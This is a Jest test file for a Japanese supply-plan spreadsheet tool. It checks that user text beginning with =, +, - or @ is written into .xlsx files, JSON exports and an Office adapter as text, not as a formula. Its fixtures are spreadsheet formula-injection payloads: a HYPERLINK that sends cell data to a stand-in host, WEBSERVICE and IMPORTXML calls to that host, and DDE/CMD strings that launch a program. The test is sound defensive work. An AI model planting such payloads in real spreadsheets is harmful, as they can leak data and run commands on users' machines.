/**
 * Formula injection: text from a plan that starts with =, +, - or @ (applicant, evidence, scenario, unit, item,
 * overseas base, R&D targets, regional notes) is written as text, never as a formula — in every sheet of the .xlsx
 * (template and check), in the plan exported back to JSON (the text exactly), and through the Office adapter
 * (Excel's text marker, an apostrophe, on every such value).
 */
import { promises as fs } from 'fs';
import * as path from 'path';
import type * as ExcelJS from 'exceljs';
import { checkWorkbook, createPlanWorkbook } from '../../src/workbook/layout';
import { OfficePort } from '../../src/workbook/office/office-port';
import { loadWorkbook } from '../../src/workbook/xlsx/io';
import { FakeExcel } from '../workbook/fake-excel';
import { cli, removeTmpDirs, tmpDir, xlsxParts } from './helpers';

jest.setTimeout(60_000);

/** Payloads, each distinctive enough to be found wherever it went. */
const P = {
  name: '=HYPERLINK("http://evil.invalid/?d="&A1,"申請者")',
  evidence: '+CMD|\' /C calc\'!A0',
  scenario: '@SUM(A1:A9)',
  unit: '-2+3*WEBSERVICE("http://evil.invalid")',
  item: '=IMPORTXML("http://evil.invalid","//a")',
  base: "=DDE(\"cmd\";\"/C calc\";\"x\")",
  overseasItem: '-1+INDIRECT("A1")',
  target: '=1+1 精度向上',
  contribution: '@NOW()',
};
const PAYLOADS = Object.values(P);

const plan = {
  format: 'supply-plan/1',
  applicant: { name: P.name, joint: true },
  yearBasis: 'fiscal',
  activity: { kind: 'rnd', start: '2024-04-01', end: '2029-03-31', quantitativeTargets: [P.target], followOn: true },
  lines: [
    { scenario: P.scenario, item: 'servo', use: 'robots', baseline2021: 100, unit: P.unit, capacity: { '2025': 130, '2030': 170 } },
    { scenario: P.scenario, item: P.item, use: 'machine-tools', baseline2021: 10, unit: P.unit, capacity: { '2025': 12 } },
  ],
  checklist: { 'stability.bcp': { confirmed: true, evidence: P.evidence }, 'competitiveness.capacity': { confirmed: false, evidence: P.evidence } },
  overseas: [{ base: P.base, item: P.overseasItem, capacityBefore: 0, capacityAfter: 10, localConsumptionShare: 0.5, risk: true, metiRequested: false }],
  regional: { contribution: P.contribution, jobsCreated: 3 },
};

let dir: string;
beforeAll(async () => {
  dir = await tmpDir();
  await fs.writeFile(path.join(dir, 'plan.json'), JSON.stringify(plan));
});
afterAll(removeTmpDirs);

const xmlEscape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&apos;');

/** Where a payload could run as a formula: formulas, validations, rule formulas, defined names — any XML outside text. */
async function formulaPlaces(file: string): Promise<string[]> {
  const found: string[] = [];
  for (const [name, xml] of await xlsxParts(file)) {
    if (!/^xl\/(worksheets\/[^/]+|workbook)\.xml$/.test(name)) continue;
    // Text lives in <v> (values and cached results) and <is> (inline strings); everything else is structure.
    const structure = xml.replace(/<v>[^<]*<\/v>/g, '').replace(/<is>.*?<\/is>/gs, '');
    for (const p of PAYLOADS) {
      const body = p.replace(/^[=+\-@]/, '');
      for (const form of new Set([body, xmlEscape(body), xmlEscape(body).replace(/&apos;/g, "'")])) {
        if (structure.includes(form)) found.push(`${name}: ${p}`);
      }
    }
  }
  return found;
}

/** Cells whose value is a payload, with their type; and formula cells whose formula holds one. */
function cellsOf(wb: ExcelJS.Workbook): { text: string[]; formulas: string[] } {
  const text: string[] = [];
  const formulas: string[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        const v = cell.value as unknown;
        if (typeof v === 'string' && PAYLOADS.some((p) => v.includes(p))) text.push(`${ws.name}!${cell.address}`);
        if (v && typeof v === 'object' && 'formula' in v) {
          const f = String((v as { formula?: string }).formula ?? '');
          if (PAYLOADS.some((p) => f.includes(p.replace(/^[=+\-@]/, '')))) formulas.push(`${ws.name}!${cell.address}: ${f}`);
        }
      }),
    );
  }
  return { text, formulas };
}

test('control: the XML scan does find a payload written as a formula, and a cell holding it', async () => {
  const { createWorkbook, saveWorkbook } = await import('../../src/workbook/xlsx/io');
  const wb = createWorkbook();
  wb.addWorksheet('S').getCell('A1').value = { formula: P.name.slice(1) } as ExcelJS.CellFormulaValue;
  const file = path.join(dir, 'control.xlsx');
  await saveWorkbook(wb, file);
  expect(await formulaPlaces(file)).toEqual([`xl/worksheets/sheet1.xml: ${P.name}`]);
  expect(cellsOf(await loadWorkbook(file)).formulas).toHaveLength(1);
});

test('template --from and check write every payload as text: no formula, validation, rule or name holds one', async () => {
  expect((await cli(dir, 'template', 'plan.xlsx', '--from', 'plan.json', '--lang', 'ja')).code).toBe(0);
  const r = await cli(dir, 'check', 'plan.xlsx', '--lang', 'en');
  expect([0, 1]).toContain(r.code);
  for (const file of ['plan.xlsx', 'plan.checked.xlsx']) {
    const full = path.join(dir, file);
    expect([file, await formulaPlaces(full)]).toEqual([file, []]);
    const wb = await loadWorkbook(full);
    const cells = cellsOf(wb);
    expect([file, cells.formulas]).toEqual([file, []]);
    // Every payload is somewhere, as text (the check also quotes them in the summary and findings).
    const all = cells.text.join('\n');
    expect(all).not.toBe('');
    // The shared-string table holds the payloads themselves, exactly.
    const strings = (await xlsxParts(full)).get('xl/sharedStrings.xml') ?? '';
    for (const p of PAYLOADS) expect([file, p, strings.includes(xmlEscape(p)) || strings.includes(xmlEscape(p).replace(/&apos;/g, "'"))]).toEqual([file, p, true]);
  }
  // The input sheets of the checked workbook still hold exactly the payloads.
  const checked = await loadWorkbook(path.join(dir, 'plan.checked.xlsx'));
  expect(checked.getWorksheet('取組・チェックリスト')!.getCell('B5').value).toBe(P.name);
  expect(checked.getWorksheet('計画')!.getCell('E5').value).toBe(P.unit);
  expect(checked.getWorksheet('計画')!.getCell('A5').value).toBe(P.scenario);
});

test('export gives every payload back exactly, as JSON text (and the plan round-trips)', async () => {
  const r = await cli(dir, 'export', 'plan.checked.xlsx', '-o', 'back.json');
  expect(r.code).toBe(0);
  const back = JSON.parse(await fs.readFile(path.join(dir, 'back.json'), 'utf8'));
  expect(back.applicant.name).toBe(P.name);
  expect(back.lines.map((l: { scenario: string; unit: string }) => [l.scenario, l.unit])).toEqual([
    [P.scenario, P.unit],
    [P.scenario, P.unit],
  ]);
  expect(back.lines[1].item).toBe(P.item);
  expect(back.checklist['stability.bcp'].evidence).toBe(P.evidence);
  // A v1 plan file: its overseas base is an act (ⅴ), its target text an R&D target's metric, its regional contribution a consideration.
  expect(back.transfers[0]).toMatchObject({ act: 'v', counterparty: P.base, item: P.overseasItem });
  expect(back.activities[0].targets.map((t: { metric: string }) => t.metric)).toEqual([P.target.trim()]);
  expect(back.considerations.regionalContribution).toBe(P.contribution);
});

test('through the Office adapter (strict fake Excel): every payload is entered with the text marker, none becomes a formula', async () => {
  const excel = new FakeExcel();
  const port = new OfficePort(excel.run, { supports: () => true });
  const { parsePlan } = await import('../../src/plan/parse');
  const parsed = parsePlan(plan);
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors));
  await createPlanWorkbook(port, { lang: 'ja', plan: parsed.plan });
  await checkWorkbook(port, { evaluatedAt: new Date('2025-06-30T01:02:03Z'), version: '0.1.0' });
  const asFormula: string[] = [];
  const unmarked: string[] = [];
  const seen = new Set<string>();
  for (const name of excel.sheetNames()) {
    for (const [row, cells] of excel.sheet(name).rows) {
      for (const [col, cell] of cells) {
        const where = `${name}!R${row}C${col}`;
        if (cell.formula && PAYLOADS.some((p) => cell.formula!.includes(p.replace(/^[=+\-@]/, '')))) asFormula.push(`${where}: ${cell.formula}`);
        if (typeof cell.value === 'string' && PAYLOADS.includes(cell.value as (typeof PAYLOADS)[number])) {
          seen.add(cell.value);
          if (!cell.quotePrefix) unmarked.push(where);
        }
      }
    }
  }
  expect(asFormula).toEqual([]);
  expect(unmarked).toEqual([]);
  expect([...seen].sort()).toEqual([...PAYLOADS].sort());
});
